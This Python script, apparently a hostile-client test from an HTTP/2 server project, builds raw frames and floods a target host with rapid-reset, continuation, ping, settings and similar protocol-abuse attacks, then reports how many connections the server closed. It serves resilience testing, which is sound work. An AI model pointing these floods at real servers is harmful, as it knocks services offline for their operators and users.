"""HTTP/2 connections that do no more than the protocol allows, as fast as they can.

`python -m tests.hostile.http2 ATTACK METHOD HOST:PORT SECONDS CONNECTIONS` prints how many frames it sent, and how many
of the connections the server ended.
"""

import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from itertools import islice

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_BATCH = 256
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_STREAM, _ACK, _END_HEADERS = 1, 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame."""
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def _text(name_index: int, value: bytes, *, indexed: bool = False, name: bytes = b"") -> bytes:
    """Return a header field, its value as it is; `indexed`: into the dynamic table."""
    first = bytes([(0x40 if indexed else 0) | name_index])
    if name:
        first += bytes([len(name)]) + name
    return first + bytes([len(value)]) + value


def _head(path: bytes) -> tuple[bytes, bytes]:
    """Return the header block of a connection's first call, and of those after it, which it makes short."""
    fixed = b"\x83\x86"  # POST, http
    first = (
        fixed
        + _text(4, path, indexed=True)
        + _text(1, b"victim", indexed=True)
        + _text(31, b"application/grpc", indexed=True)
        + _text(0, b"trailers", indexed=True, name=b"te")
    )
    return first, fixed + b"\xc1\xc0\xbf\xbe"


def _calls(path: bytes, after: Callable[[int], bytes]) -> Iterator[tuple[bytes, int]]:
    first, others = _head(path)
    yield frame(_HEADERS, _END_HEADERS, 1, first) + after(1), 2
    for begin in range(3, 1 << 31, 2 * _BATCH):
        yield (
            b"".join(
                frame(_HEADERS, _END_HEADERS, stream, others) + after(stream)
                for stream in range(begin, begin + 2 * _BATCH, 2)
            ),
            2 * _BATCH,
        )


def _same(one: bytes, before: bytes = b"") -> Iterator[tuple[bytes, int]]:
    yield before, 1
    while True:
        yield one * _BATCH, _BATCH


def _attack(name: str, path: bytes) -> Iterator[tuple[bytes, int]]:
    """Return pieces to send, each with its number of frames."""
    first, _ = _head(path)
    open_call = frame(_HEADERS, _END_HEADERS, 1, first)
    match name:
        case "rapid_reset":
            return _calls(path, lambda stream: frame(_RST_STREAM, 0, stream, struct.pack(">I", 8)))
        case "made_reset":  # the server is made to reset: a window of no bytes more is an error of the stream
            return _calls(path, lambda stream: frame(_WINDOW_UPDATE, 0, stream, bytes(4)))
        case "calls":  # that never go on
            return _calls(path, lambda _: b"")
        case "few_calls":  # as many, but of many connections
            return islice(_calls(path, lambda _: b""), 2)
        case "empty_calls":  # which end at once, without the message that they need
            return _calls(path, lambda stream: frame(_DATA, _END_STREAM, stream))
        case "settings":
            return _same(frame(_SETTINGS, 0, 0))
        case "pings":
            return _same(frame(_PING, 0, 0, bytes(8)))
        case "acknowledgements":
            return _same(frame(_PING, _ACK, 0, bytes(8)))
        case "windows":
            return _same(frame(_WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), open_call)
        case "priorities":
            return _same(frame(_PRIORITY, 0, 1, struct.pack(">IB", 0, 1)), open_call)
        case "empty_data":
            return _same(frame(_DATA, 0, 1), open_call)
        case "resets":
            return _same(frame(_RST_STREAM, 0, 1, struct.pack(">I", 8)), open_call)
        case "continuations":
            return _same(frame(_CONTINUATION, 0, 1), frame(_HEADERS, 0, 1, first))
        case "unknown":
            return _same(frame(0xEE, 0, 0))
    raise SystemExit(f"no attack {name}")


def _main(name: str, path: str, address: str, seconds: float, num_connections: int) -> None:
    host, _, port = address.rpartition(":")
    sockets: dict[socket.socket, tuple[Iterator[tuple[bytes, int]], bytes, int]] = {}
    ended, num_frames = 0, 0
    for _ in range(num_connections):
        one = socket.create_connection((host, int(port)))
        one.setblocking(False)
        settings = frame(_SETTINGS, 0, 0)
        sockets[one] = (_attack(name, path.encode()), _PREFACE + settings + frame(_SETTINGS, _ACK, 0), 2)
    end = time.monotonic() + seconds
    while sockets and time.monotonic() < end:
        sending = [one for one, (_, rest, _) in sockets.items() if rest]
        readable, writable, _ = select.select([*sockets], sending, [], 0.1)
        for one in {*readable, *writable}:
            pieces, rest, num = sockets[one]
            try:
                if one in readable and not one.recv(1 << 20):
                    raise ConnectionResetError
                if one in writable:
                    rest = rest[one.send(rest) :]
            except BlockingIOError:
                continue
            except OSError:
                ended += 1
                del sockets[one]
                continue
            if not rest:
                num_frames += num
                rest, num = next(pieces, (b"", 0))
            sockets[one] = pieces, rest, num
    print(json.dumps({"num_frames": num_frames, "ended": ended}))


if __name__ == "__main__":
    _main(sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]), int(sys.argv[5]))
